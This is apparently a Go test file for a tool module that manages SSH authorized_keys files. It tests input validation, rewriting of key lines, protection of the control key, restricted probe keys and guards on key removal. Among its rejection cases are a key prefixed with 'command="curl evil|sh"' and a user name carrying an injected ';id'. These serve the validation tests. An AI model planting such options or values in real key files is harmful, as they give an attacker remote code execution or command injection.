package tasks

import (
	"context"
	"crypto/ed25519"
	"encoding/pem"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"sync"
	"testing"

	"golang.org/x/crypto/ssh"
	"gopkg.in/yaml.v3"

	"github.com/breakglass/breakglass/internal/engine"
)

// recordedKey is the key in the recorded authorized_keys files.
const recordedKey = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGLjvK0Yk3M0GbhT9eS2j3oWnZVe7yJ4hTQ9O9Wn4tHn ops1@safe"

// testKey returns a deterministic ed25519 public key line "ssh-ed25519 … comment".
func testKey(t testing.TB, i int, comment string) string {
	t.Helper()
	seed := make([]byte, ed25519.SeedSize)
	seed[0] = byte(i)
	pk, err := ssh.NewPublicKey(ed25519.NewKeyFromSeed(seed).Public())
	if err != nil {
		t.Fatal(err)
	}
	s := strings.TrimSpace(string(ssh.MarshalAuthorizedKey(pk)))
	if comment != "" {
		s += " " + comment
	}
	return s
}

// keyOnly drops the comment of a key line: what env.ControlKey holds.
func keyOnly(line string) string {
	f := strings.Fields(line)
	return f[0] + " " + f[1]
}

func mustAuthorizedKey(t *testing.T, src string) *AuthorizedKey {
	t.Helper()
	m, err := decodeTask(t, NewAuthorizedKey, src)
	if err != nil {
		t.Fatalf("decode %q: %v", src, err)
	}
	return m.(*AuthorizedKey)
}

func TestNewAuthorizedKeyRejects(t *testing.T) {
	k1, k2 := testKey(t, 1, "one"), testKey(t, 2, "two")
	dir := t.TempDir()
	priv := "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\n"
	if err := os.WriteFile(filepath.Join(dir, "id_ed25519"), []byte(priv), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "junk.pub"), []byte(k1+"\nnot a key at all\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "empty.pub"), []byte("# nothing\n\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		src  string
		want []string
		not  string // must not appear in the error
	}{
		{fmt.Sprintf("{user: alice, key: %q}", k1+"\n"+k2), []string{"play.yml:1:20: authorized_key: key: a key must be one line"}, ""},
		{fmt.Sprintf("{user: alice, key: %q}", k1+"\r"), []string{"key: a key must be one line"}, ""},
		{fmt.Sprintf("{user: alice, key: %q}", "command=\"curl evil|sh\" "+k1), []string{"key: the key carries options"}, ""},
		{fmt.Sprintf("{user: alice, key: %q}", "restrict "+k1), []string{"key: the key carries options"}, ""},
		{fmt.Sprintf("{user: alice, key: %q}", k1+" \x00x"), []string{"one line"}, ""},
		{fmt.Sprintf("{user: alice, keys: [%q, %q]}", k1, "ssh-ed25519 AAAAnotbase64!"), []string{"play.yml:1:", "keys[1]: not a public key"}, ""},
		{fmt.Sprintf("{user: alice, keys: [%q, %q]}", k1, testKey(t, 1, "again")), []string{"keys[1]: the same key is listed twice"}, ""},
		{fmt.Sprintf("{user: alice, key: %q, options: %q}", k1, `from="10.0.0.0/8" `+k2), []string{"options: ", "is not an authorized_keys option list"}, ""},
		{fmt.Sprintf("{user: alice, key: %q, options: %q}", k1, "no-pty\ncommand=\"sh\""), []string{"options: must be one line"}, ""},
		{fmt.Sprintf("{user: alice, key: %q, options: %q}", k1, `form="10.0.0.0/8"`), []string{`unknown option "form"`}, ""},
		{fmt.Sprintf("{user: alice, key: %q, options: %q}", k1, `from`), []string{"option from needs a value"}, ""},
		{fmt.Sprintf("{user: alice, key: %q, options: %q}", k1, `no-pty="x"`), []string{"option no-pty takes no value"}, ""},
		{fmt.Sprintf("{user: alice, key: %q, options: %q}", k1, `from="a b`), []string{"is not an authorized_keys option list"}, ""},
		{fmt.Sprintf("{user: alice, key: %q, probe: true, options: %q}", k1, `command="id"`), []string{"probe keys have their own command="}, ""},
		{fmt.Sprintf("{user: alice, key: %q, state: absent, exclusive: true}", k1), []string{"exclusive makes no sense with state absent"}, ""},
		{fmt.Sprintf("{user: 'alice;id', key: %q}", k1), []string{"play.yml:1:8: authorized_key: invalid user name"}, ""},
		{fmt.Sprintf("{key: %q}", k1), []string{"user is required"}, ""},
		{"{user: alice}", []string{"play.yml:1:1: authorized_key: give key, keys or key_file"}, ""},
		{fmt.Sprintf("{user: alice, key: %q, exclusiv: true}", k1), []string{`unknown key "exclusiv"`}, ""},
		{"{user: alice, key_file: nosuch.pub}", []string{"play.yml:1:25: authorized_key: key_file: open ", "nosuch.pub"}, ""},
		{"{user: alice, key_file: id_ed25519}", []string{"key_file id_ed25519: line 1: this is a private key"}, "b3BlbnNz"},
		{"{user: alice, key_file: junk.pub}", []string{"key_file junk.pub: line 2: not a public key"}, "not a key at all"},
		{"{user: alice, key_file: empty.pub}", []string{"key_file empty.pub holds no key"}, ""},
	} {
		n, err := decodeTaskIn(t, dir, tc.src)
		if err == nil {
			t.Errorf("%s: decoded without error (%+v)", tc.src, n)
			continue
		}
		for _, w := range tc.want {
			if !strings.Contains(err.Error(), w) {
				t.Errorf("%s:\n error %q\n does not contain %q", tc.src, err, w)
			}
		}
		if tc.not != "" && strings.Contains(err.Error(), tc.not) {
			t.Errorf("%s: error quotes the file: %q", tc.src, err)
		}
	}
}

// decodeTaskIn decodes an authorized_key task of a playbook in dir.
func decodeTaskIn(t *testing.T, dir, src string) (Module, error) {
	t.Helper()
	m, err := decodeTask(t, func(_ string, n *yaml.Node) (Module, error) {
		return NewAuthorizedKey(filepath.Join(dir, "play.yml"), n)
	}, src)
	if err != nil {
		// Errors name the playbook by its path; compare by its base name.
		err = errors.New(strings.ReplaceAll(err.Error(), filepath.Join(dir, "play.yml"), "play.yml"))
	}
	return m, err
}

func TestNewAuthorizedKeyKeyFile(t *testing.T) {
	dir := t.TempDir()
	k1, k2 := testKey(t, 1, "one"), testKey(t, 2, "")
	if err := os.MkdirAll(filepath.Join(dir, "keys"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "keys", "ops.pub"), []byte("# ops team\n"+k1+"\r\n\n"+k2+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	m, err := decodeTaskIn(t, dir, fmt.Sprintf("{user: alice, key_file: keys/ops.pub, keys: [%q], options: 'from=\"10.0.0.0/8\",no-pty'}", testKey(t, 3, "three")))
	if err != nil {
		t.Fatal(err)
	}
	var lines []string
	for _, k := range m.(*AuthorizedKey).keys {
		lines = append(lines, k.line)
	}
	want := []string{
		`from="10.0.0.0/8",no-pty ` + testKey(t, 3, "three"),
		`from="10.0.0.0/8",no-pty ` + k1,
		`from="10.0.0.0/8",no-pty ` + k2,
	}
	if !reflect.DeepEqual(lines, want) {
		t.Errorf("lines:\n got %q\nwant %q", lines, want)
	}
}

func TestProbeCommand(t *testing.T) {
	if strings.ContainsAny(ProbeCommand, "\"\n") {
		t.Fatalf("ProbeCommand must hold no double quote or newline: %s", ProbeCommand)
	}
	m := mustAuthorizedKey(t, fmt.Sprintf("{user: alice, key: %q, probe: true, options: 'from=\"10.0.0.0/8\"'}", testKey(t, 1, "probe")))
	line := m.keys[0].line
	wantPrefix := `restrict,command="` + ProbeCommand + `",from="10.0.0.0/8" ssh-ed25519 `
	if !strings.HasPrefix(line, wantPrefix) {
		t.Fatalf("probe line %q, want prefix %q", line, wantPrefix)
	}
	// sshd's own parser (as x/crypto mirrors it) reads the command back.
	_, _, opts, _, err := ssh.ParseAuthorizedKey([]byte(line))
	if err != nil || len(opts) != 3 || opts[1] != `command="`+ProbeCommand+`"` {
		t.Errorf("reparsed options %q, %v", opts, err)
	}
}

// planKeys plans m on uf and returns the changes' descriptions, the
// content written (nil when none) and the commands' words.
func planKeys(t *testing.T, m *AuthorizedKey, uf *UserFacts, run authKeyRun) ([]string, []byte, [][][]string) {
	t.Helper()
	steps, err := m.planSteps(uf, run)
	if err != nil {
		t.Fatalf("plan: %v", err)
	}
	var what []string
	var content []byte
	var words [][][]string
	for _, s := range steps {
		what = append(what, s.change.What)
		if s.content != nil {
			content = s.content
		}
		w := shellWords(t, s.cmd)
		for i, c := range w {
			// bg_write's last word is the content: checked here, left out
			// of what tests compare.
			if c[0] == "bg_write" {
				if got := c[len(c)-1]; got != string(s.content) {
					t.Errorf("bg_write content %q, want %q", got, s.content)
				}
				w[i] = c[:len(c)-1]
			}
		}
		words = append(words, w)
	}
	return what, content, words
}

func TestAuthorizedKeyAdds(t *testing.T) {
	k2 := testKey(t, 2, "ops2@safe")
	m := mustAuthorizedKey(t, fmt.Sprintf("{user: alice, key: %q}", k2))
	uf := recordedFacts(t, "existing", "alice")
	what, content, words := planKeys(t, m, uf, authKeyRun{diff: true})
	want := "# managed by hand\n" + recordedKey + "\n" + k2 + "\n"
	if string(content) != want {
		t.Errorf("content:\n%s\nwant:\n%s", content, want)
	}
	if !reflect.DeepEqual(words, [][][]string{{{"bg_write", "/home/alice/.ssh/authorized_keys", "alice:", "0600"}}}) {
		t.Errorf("commands %q", words)
	}
	if len(what) != 1 || what[0] != "write /home/alice/.ssh/authorized_keys (1 key(s) added)" {
		t.Errorf("changes %q", what)
	}
	steps, _ := m.planSteps(uf, authKeyRun{diff: true})
	if ch := steps[0].change; ch.Before != string(uf.KeyFiles[0].Content) || ch.After != want || ch.Path != "/home/alice/.ssh/authorized_keys" {
		t.Errorf("diff: %+v", ch)
	}
	if steps, _ := m.planSteps(uf, authKeyRun{}); steps[0].change.Before != "" {
		t.Error("diff filled without --diff")
	}
}

func TestAuthorizedKeyConverged(t *testing.T) {
	uf := recordedFacts(t, "existing", "alice")
	for _, src := range []string{
		fmt.Sprintf("{user: alice, key: %q}", recordedKey),
		fmt.Sprintf("{user: alice, key: %q}", keyOnly(recordedKey)), // no comment: any comment will do
		fmt.Sprintf("{user: alice, key: %q, exclusive: true}", recordedKey),
		fmt.Sprintf("{user: alice, key: %q, state: absent}", testKey(t, 9, "")),
	} {
		if what, _, _ := planKeys(t, mustAuthorizedKey(t, src), uf, authKeyRun{}); len(what) != 0 {
			t.Errorf("%s: changes %q", src, what)
		}
	}
}

func TestAuthorizedKeyRewritesLines(t *testing.T) {
	k1, k2, k3 := testKey(t, 1, "one"), testKey(t, 2, "two"), testKey(t, 3, "three")
	uf := recordedFacts(t, "existing", "alice")
	old := "# keys\n" + k1 + "\nfrom=\"1.2.3.4\" " + k2 + "\n" + k3 + "\n" + "no-pty " + k2 + " dup\n\n" + "garbage line\n"
	uf.KeyFiles[0].Content = []byte(old)

	// A probe key: its lines get restrict; no unrestricted line survives.
	m := mustAuthorizedKey(t, fmt.Sprintf("{user: alice, key: %q, probe: true}", k2))
	what, content, _ := planKeys(t, m, uf, authKeyRun{})
	want := "# keys\n" + k1 + "\n" + `restrict,command="` + ProbeCommand + `" ` + k2 + "\n" + k3 + "\n\ngarbage line\n"
	if string(content) != want {
		t.Errorf("probe content:\n%s\nwant:\n%s", content, want)
	}
	if len(what) != 1 || !strings.Contains(what[0], "1 key line(s) rewritten; 1 key line(s) removed") {
		t.Errorf("changes %q", what)
	}

	// Removing keys.
	m = mustAuthorizedKey(t, fmt.Sprintf("{user: alice, keys: [%q, %q], state: absent}", k2, k3))
	_, content, _ = planKeys(t, m, uf, authKeyRun{})
	if want := "# keys\n" + k1 + "\n\ngarbage line\n"; string(content) != want {
		t.Errorf("absent content:\n%s\nwant:\n%s", content, want)
	}
}

func TestAuthorizedKeyExclusiveKeepsControlKey(t *testing.T) {
	k1, k2, ctrl := testKey(t, 1, "one"), testKey(t, 2, "two"), testKey(t, 7, "admin@laptop")
	uf := recordedFacts(t, "existing", "alice")
	uf.KeyFiles[0].Content = []byte("# keys\n" + k1 + "\n" + ctrl + "\nunparsable key line\n" + k2 + "\n")
	m := mustAuthorizedKey(t, fmt.Sprintf("{user: alice, key: %q, exclusive: true}", k2))

	run := authKeyRun{controlKey: string(mustParseKey(t, ctrl).Marshal()), controlUser: "alice"}
	what, content, _ := planKeys(t, m, uf, run)
	if want := "# keys\n" + ctrl + "\n" + k2 + "\n"; string(content) != want {
		t.Errorf("content:\n%s\nwant:\n%s", content, want)
	}
	if len(what) != 1 || !strings.Contains(what[0], "2 key line(s) removed; kept the key this run is connected with") {
		t.Errorf("changes %q", what)
	}

	// The control key elsewhere: nothing to keep, nothing said.
	run.controlKey = string(mustParseKey(t, testKey(t, 8, "")).Marshal())
	what, content, _ = planKeys(t, m, uf, run)
	if want := "# keys\n" + k2 + "\n"; string(content) != want || strings.Contains(what[0], "kept") {
		t.Errorf("content %q, changes %q", content, what)
	}

	// The control user's own file, control key unknown: refuse.
	run.controlKey = ""
	if _, err := m.planSteps(uf, run); err == nil || !strings.Contains(err.Error(), "cannot be protected") {
		t.Errorf("unknown control key: %v", err)
	}
	// Removing the control key outright: refuse.
	run.controlKey = string(mustParseKey(t, ctrl).Marshal())
	absent := mustAuthorizedKey(t, fmt.Sprintf("{user: alice, keys: [%q, %q], state: absent}", k1, ctrl))
	if _, err := absent.planSteps(uf, run); !errors.Is(err, ErrControlKey) {
		t.Errorf("removing the control key: %v, want ErrControlKey", err)
	}
}

// TestAuthorizedKeyRunControlKey drives the check through Run and
// env.ControlKey (key only, no comment), as the runner fills it.
func TestAuthorizedKeyRunControlKey(t *testing.T) {
	uf := recordedFacts(t, "existing", "alice")
	env := testEnv(uf)
	env.ControlKey = keyOnly(recordedKey)
	env.Check = true
	m := mustAuthorizedKey(t, fmt.Sprintf("{user: alice, key: %q, exclusive: true}", testKey(t, 1, "")))
	res, err := runModule(context.Background(), newFakeRunner(), env, m)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Changes) != 1 || !strings.Contains(res.Changes[0].What, "1 key(s) added; kept the key this run is connected with") {
		t.Errorf("changes %+v", res.Changes)
	}
	env.ControlKey = "not a key"
	if _, err := runModule(context.Background(), newFakeRunner(), env, m); err == nil {
		t.Error("a malformed control key was accepted")
	}
}

func mustParseKey(t *testing.T, line string) ssh.PublicKey {
	t.Helper()
	pk, _, _, _, err := ssh.ParseAuthorizedKey([]byte(line))
	if err != nil {
		t.Fatal(err)
	}
	return pk
}

func TestAuthorizedKeyRepairsOwnerAndModes(t *testing.T) {
	// The incident: content right, but ~/.ssh 0777 and the file owned by
	// another user. The home (0777 too) is ssh_permissions' business.
	m := mustAuthorizedKey(t, fmt.Sprintf("{user: bob, key: %q}", recordedKey))
	what, content, words := planKeys(t, m, recordedFacts(t, "incident", "bob"), authKeyRun{})
	if content != nil {
		t.Errorf("rewrote a file whose content is right: %q", content)
	}
	wantWords := [][][]string{
		{{"bg_chmod", "0700", "/home/bob/.ssh", "bob"}},
		{{"bg_chown", "bob:", "/home/bob/.ssh/authorized_keys"}},
		{{"bg_chmod", "0600", "/home/bob/.ssh/authorized_keys", "bob"}},
	}
	wantWhat := []string{
		"chmod 0700 /home/bob/.ssh (was 0777)",
		"chown bob: /home/bob/.ssh/authorized_keys (owner uid 1002)",
		"chmod 0600 /home/bob/.ssh/authorized_keys (was 0644)",
	}
	if !reflect.DeepEqual(words, wantWords) || !reflect.DeepEqual(what, wantWhat) {
		t.Errorf("got %q %q\nwant %q %q", what, words, wantWhat, wantWords)
	}
}

func TestAuthorizedKeyEffectivePath(t *testing.T) {
	k := testKey(t, 1, "")
	for _, tc := range []struct {
		file, user string
		check      bool
		want       [][][]string
	}{
		// AuthorizedKeysFile /etc/ssh/authorized_keys/%u: the directory
		// exists (root's); the file is the user's.
		{"etcakf", "alice", false, [][][]string{{{"bg_write", "/etc/ssh/authorized_keys/alice", "alice:", "0600"}}}},
		// Match Address picks another file, in a directory that exists.
		{"matchaddr", "alice", false, [][][]string{{{"bg_write", "/home/alice/.ssh/from-admin-net", "alice:", "0600"}}}},
		// ~/.ssh is a symlink out of home: the real file is written, the
		// directories outside home are left to ssh_permissions.
		{"symlink", "dave", false, [][][]string{{{"bg_write", "/srv/keys/dave/authorized_keys", "dave:", "0600"}}}},
		// No ~/.ssh yet.
		{"locked", "carol", false, [][][]string{
			{{"bg_mkdir", "0700", "/home/carol/.ssh", "carol:"}},
			{{"bg_write", "/home/carol/.ssh/authorized_keys", "carol:", "0600"}},
		}},
		// A user a task before this one would create, in check mode.
		{"missing", "ghost", true, [][][]string{
			{{"bg_mkdir", "0700", "/home/ghost/.ssh", "ghost:"}},
			{{"bg_write", "/home/ghost/.ssh/authorized_keys", "ghost:", "0600"}},
		}},
	} {
		t.Run(tc.file, func(t *testing.T) {
			m := mustAuthorizedKey(t, fmt.Sprintf("{user: %s, key: %q}", tc.user, k))
			_, _, words := planKeys(t, m, recordedFacts(t, tc.file, tc.user), authKeyRun{check: tc.check})
			if !reflect.DeepEqual(words, tc.want) {
				t.Errorf("got  %q\nwant %q", words, tc.want)
			}
		})
	}
}

func TestAuthorizedKeyPlanRefuses(t *testing.T) {
	k := testKey(t, 1, "")
	for _, tc := range []struct{ file, user, want string }{
		{"missing", "ghost", "user ghost does not exist: create it first"},
		{"none", "alice", "sshd reads no authorized keys file for alice (AuthorizedKeysFile none)"},
		{"badtoken", "alice", `cannot expand AuthorizedKeysFile ".ssh/k_%q"`},
		{"broken", "alice", "cannot read sshd's effective configuration: sshd -T for alice: exit status 255"},
		{"noconn", "alice", "connection's addresses are unknown"},
		{"nohome", "erin", "home /home/erin of erin does not exist"},
	} {
		m := mustAuthorizedKey(t, fmt.Sprintf("{user: %s, key: %q}", tc.user, k))
		if _, err := m.planSteps(recordedFacts(t, tc.file, tc.user), authKeyRun{}); err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: error %v, want %q", tc.file, err, tc.want)
		}
	}
}

func TestAuthorizedKeyCheckModeChangesNothing(t *testing.T) {
	r := newFakeRunner()
	env := testEnv(recordedFacts(t, "incident", "bob"))
	env.Check = true
	m := mustAuthorizedKey(t, fmt.Sprintf("{user: bob, keys: [%q, %q]}", recordedKey, testKey(t, 1, "")))
	res, err := runModule(context.Background(), r, env, m)
	if err != nil {
		t.Fatal(err)
	}
	if !res.Changed || len(res.Changes) != 2 || len(r.calls) != 0 { // chmod ~/.ssh, write the file
		t.Errorf("check mode: %d calls, result %+v", len(r.calls), res)
	}
	env.Check = false
	if _, err := runModule(context.Background(), r, env, m); err != nil {
		t.Fatal(err)
	}
	applied := r.applied()
	if len(applied) != 1 || !strings.Contains(string(applied[0].stdin), testKey(t, 1, "")) {
		t.Fatalf("apply: %+v", applied)
	}
	// File contents travel on stdin, never in the command line.
	if strings.Contains(applied[0].cmd, "AAAAC3") {
		t.Error("a key is in the command line")
	}
}

// TestAuthorizedKeysFileMovedOnLab moves AuthorizedKeysFile in a drop-in,
// as hardened images do: the key must land where sshd now reads, which
// only the effective configuration tells.
func TestAuthorizedKeysFileMovedOnLab(t *testing.T) {
	for _, tc := range []struct {
		name, dropIn, want string
	}{
		{"etc", "AuthorizedKeysFile /etc/ssh/authorized_keys/%u\n", "/etc/ssh/authorized_keys/bg"},
		// A Match on every field sshd -T -C is given: it applies only
		// when the connection is described completely.
		{"match", "Match Address 127.0.0.1 LocalAddress {{addr}} LocalPort 22 User bg\n\tAuthorizedKeysFile .ssh/keys.d/%u\n", "/home/bg/.ssh/keys.d/bg"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			l, h, env := acctLab(t)
			r := h.Runner()
			dropIn := strings.ReplaceAll(tc.dropIn, "{{addr}}", h.Addr)
			acctSh(t, h, fmt.Sprintf("mkdir -p /etc/ssh/authorized_keys && printf '%%s' %s >/etc/ssh/sshd_config.d/50-keys.conf && sshd -t && kill -HUP \"$(cat /run/sshd.pid)\"", shellQuote(dropIn)))
			waitSSHD(t, h)
			key, pub := acctKeyPair(t, "bg@safe")
			acctRun(t, NewUser, `{name: bg}`, r, env)
			res := acctRun(t, NewAuthorizedKey, fmt.Sprintf(`{user: bg, key: %q}`, pub), r, env)
			if last := res.Changes[len(res.Changes)-1]; last.Path != tc.want {
				t.Errorf("wrote %q, want %s (%+v)", last.Path, tc.want, res.Changes)
			}
			if got := acctSh(t, h, "stat -c '%U %a' "+tc.want+"; test ! -e /home/bg/.ssh/authorized_keys && echo no-default"); got != "bg 600\nno-default\n" {
				t.Errorf("key file: %q", got)
			}
			acctMustLogin(t, l, h, "bg", key)
			env.Facts = &Facts{}
			if res := acctRun(t, NewAuthorizedKey, fmt.Sprintf(`{user: bg, key: %q}`, pub), r, env); res.Changed {
				t.Errorf("second run: %+v", res.Changes)
			}
		})
	}
}

// shellQuote quotes s as one shell word.
func shellQuote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

// TestProbeKeyOnLab installs a probe key and logs in with it: whatever the
// client asks, the key only answers who it is and whether sudo works.
func TestProbeKeyOnLab(t *testing.T) {
	l, h, env := acctLab(t)
	r := h.Runner()
	key, pub := acctKeyPair(t, "probe@nightly")
	acctRun(t, NewUser, `{name: bg}`, r, env)
	acctRun(t, NewAuthorizedKey, fmt.Sprintf(`{user: bg, key: %q}`, pub), r, env)
	before := acctSh(t, h, "cat /home/bg/.ssh/authorized_keys")
	acctRun(t, NewAuthorizedKey, fmt.Sprintf(`{user: bg, key: %q, probe: true, options: 'from="127.0.0.1"'}`, pub), r, env)
	out, err := acctLogin(l, h, "bg", key)
	if err != nil || out != "breakglass-probe user=bg sudo=no\n" {
		t.Fatalf("probe login: %q, %v", out, err)
	}
	// The unrestricted line is gone, kept only in the backup; no temp file
	// is left behind.
	if got := acctSh(t, h, "cat "+engine.BackupPath("/home/bg/.ssh/authorized_keys")+"; ls -A /home/bg/.ssh"); got != before+".authorized_keys.breakglass.bak\nauthorized_keys\n" {
		t.Errorf("backup and ~/.ssh: %q", got)
	}
	acctSh(t, h, "echo 'bg ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/bg && chmod 0440 /etc/sudoers.d/bg")
	if out, err := acctLogin(l, h, "bg", key); err != nil || out != "breakglass-probe user=bg sudo=ok\n" {
		t.Fatalf("probe login with sudo: %q, %v", out, err)
	}
}

// testPrivateKey writes the private half of testKey(i) to dir/name in
// OpenSSH format, with its .pub beside it when pub is set.
func testPrivateKey(t *testing.T, dir, name string, i int, pub bool) string {
	t.Helper()
	seed := make([]byte, ed25519.SeedSize)
	seed[0] = byte(i)
	block, err := ssh.MarshalPrivateKey(ed25519.NewKeyFromSeed(seed), "")
	if err != nil {
		t.Fatal(err)
	}
	p := filepath.Join(dir, name)
	if err := os.WriteFile(p, pem.EncodeToMemory(block), 0o600); err != nil {
		t.Fatal(err)
	}
	if pub {
		if err := os.WriteFile(p+".pub", []byte(testKey(t, i, name)+"\n"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return p
}

// TestAuthorizedKeyRemovalGuard: removing the key a break-glass login
// uses is allowed only when fresh logins prove the control user and
// min_working of the logins left; removing other keys needs no proof.
func TestAuthorizedKeyRemovalGuard(t *testing.T) {
	dir := t.TempDir()
	k1 := testPrivateKey(t, dir, "bg-ops1", 1, true)
	k2 := testPrivateKey(t, dir, "bg-ops2", 2, false) // found from the private key
	locked := filepath.Join(dir, "locked")            // found from an encrypted key
	seed := make([]byte, ed25519.SeedSize)
	seed[0] = 1
	block, err := ssh.MarshalPrivateKeyWithPassphrase(ed25519.NewKeyFromSeed(seed), "", []byte("secret"))
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(locked, pem.EncodeToMemory(block), 0o600); err != nil {
		t.Fatal(err)
	}
	logins := []Login{{User: "bg-ops1", KeyFile: k1}, {User: "bg-ops2", KeyFile: k2}}
	withOps1Key := func(keyFile string) []Login { return []Login{{User: "bg-ops1", KeyFile: keyFile}, logins[1]} }
	ok := func(u string) string { return "breakglass-probe user=" + u + " sudo=ok\n" }
	refused := func(user string) map[string]error {
		return map[string]error{user + "/direct": errors.New("ssh: unable to authenticate")}
	}
	file := func(keys ...int) []byte {
		var b strings.Builder
		for _, k := range keys {
			b.WriteString(testKey(t, k, "") + "\n")
		}
		return []byte(b.String())
	}
	ops1 := mustAuthorizedKey(t, fmt.Sprintf(`{user: bg-ops1, key: %q, exclusive: true}`, testKey(t, 7, "")))
	ops2gone := func(k int) *AuthorizedKey {
		return mustAuthorizedKey(t, fmt.Sprintf(`{user: bg-ops2, key: %q, state: absent}`, testKey(t, k, "")))
	}
	for _, tc := range []struct {
		name     string
		m        *AuthorizedKey
		logins   []Login // nil: logins
		old, new []byte
		min      int
		fail     map[string]error
		noDial   bool
		wantErr  string
		wantDial bool
	}{
		{name: "another key removed: no proof", m: ops1, old: file(1, 9), new: file(1, 7), min: 2},
		{name: "the login's key removed, the other works", m: ops1, old: file(1, 9), new: file(7), min: 1, wantDial: true},
		{name: "min_working counts the lost login", m: ops1, old: file(1), new: file(7), min: 2, wantErr: "fewer than min_working 2", wantDial: true},
		{name: "the other login is locked out", m: ops1, old: file(1), new: file(7), min: 1, fail: refused("bg-ops2"), wantErr: "0 of 1", wantDial: true},
		{name: "the control user is locked out", m: ops1, old: file(1), new: file(7), min: 1, fail: refused("admin"), wantErr: "the control user admin cannot log in", wantDial: true},
		{name: "the key was not there: nothing lost", m: ops1, old: file(9), new: file(7), min: 2},
		{name: "key read from the private key", m: ops2gone(2), old: file(2, 5), new: file(5), min: 1, fail: refused("bg-ops1"), wantErr: "keys not removed", wantDial: true},
		{name: "key read from the private key is kept", m: ops2gone(5), old: file(2, 5), new: file(2), min: 1},
		{name: "key read from an encrypted key is kept", m: ops1, logins: withOps1Key(locked), old: file(1, 9), new: file(1, 7), min: 2},
		{name: "key read from an encrypted key goes", m: ops1, logins: withOps1Key(locked), old: file(1), new: file(7), min: 2, wantErr: "fewer than min_working 2", wantDial: true},
		{name: "unreadable key, a key swapped for another: counted as lost", m: ops1, logins: withOps1Key(filepath.Join(dir, "missing")), old: file(9), new: file(7), min: 1, fail: refused("bg-ops2"), wantErr: "keys not removed", wantDial: true},
		{name: "unreadable key, nothing removed: no proof", m: ops1, logins: withOps1Key(filepath.Join(dir, "missing")), old: file(9), new: file(9, 7), min: 2},
		{name: "no fresh logins possible", m: ops1, old: file(1), new: file(7), min: 1, noDial: true, wantErr: "no way to open fresh logins"},
		{name: "no min_working: no guard", m: ops1, old: file(1), new: file(7)},
	} {
		t.Run(tc.name, func(t *testing.T) {
			d := &countingLogins{fakeLogins: fakeLogins{answers: map[string]string{
				"admin/direct": ok("admin"), "bg-ops1/direct": ok("bg-ops1"), "bg-ops2/direct": ok("bg-ops2")}, fail: tc.fail}}
			env := &Env{ControlUser: "admin", Logins: logins, MinWorking: tc.min, Dial: d}
			if tc.logins != nil {
				env.Logins = tc.logins
			}
			if tc.noDial {
				env.Dial = nil
			}
			var err error
			if g := tc.m.removalGuard(env, tc.old, tc.new); g != nil {
				err = g.Prove(context.Background(), env)
			}
			switch {
			case tc.wantErr == "" && err != nil:
				t.Fatalf("refused: %v", err)
			case tc.wantErr != "" && (err == nil || !strings.Contains(err.Error(), tc.wantErr)):
				t.Fatalf("got %v, want an error containing %q", err, tc.wantErr)
			}
			if got := len(d.users) > 0; got != tc.wantDial {
				t.Errorf("fresh logins made: %v, want %v (%v)", got, tc.wantDial, d.users)
			}
			if slices.Contains(d.users, tc.m.user) {
				t.Errorf("the login whose key goes was counted as a way in left: %v", d.users)
			}
		})
	}
}

// TestAuthorizedKeyRemovalNotBatched: a change that removes the key a
// break-glass login uses proves the ways in left after every earlier
// change, so its plan never joins a batch; one that removes no login's
// key may.
func TestAuthorizedKeyRemovalNotBatched(t *testing.T) {
	pub := filepath.Join(t.TempDir(), "ops1")
	if err := os.WriteFile(pub+".pub", []byte(recordedKey+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	env := &Env{ControlUser: "admin", Logins: []Login{{User: "alice", KeyFile: pub}}, MinWorking: 1}
	k := testKey(t, 3, "")
	for src, want := range map[string]bool{
		fmt.Sprintf(`{user: alice, key: %q}`, k):                               true,
		fmt.Sprintf(`{user: alice, key: %q, exclusive: true}`, k):              false,
		fmt.Sprintf(`{user: alice, key: %q, state: absent}`, recordedKey):      false,
		fmt.Sprintf(`{user: alice, keys: [%q], exclusive: true}`, recordedKey): true,
	} {
		p, err := mustAuthorizedKey(t, src).Plan(env, []any{recordedFacts(t, "existing", "alice")})
		if err != nil {
			t.Fatalf("%s: %v", src, err)
		}
		if got := p.MayBatch(); got != want {
			t.Errorf("%s: batchable %v, want %v (guard %+v)", src, got, want, p.Guard)
		}
	}
}

// countingLogins records which users fresh logins were opened for.
type countingLogins struct {
	fakeLogins
	mu    sync.Mutex
	users []string
}

func (c *countingLogins) Login(ctx context.Context, user, keyFile string, p Path) (Runner, func() error, error) {
	c.mu.Lock()
	c.users = append(c.users, user)
	c.mu.Unlock()
	return c.fakeLogins.Login(ctx, user, keyFile, p)
}
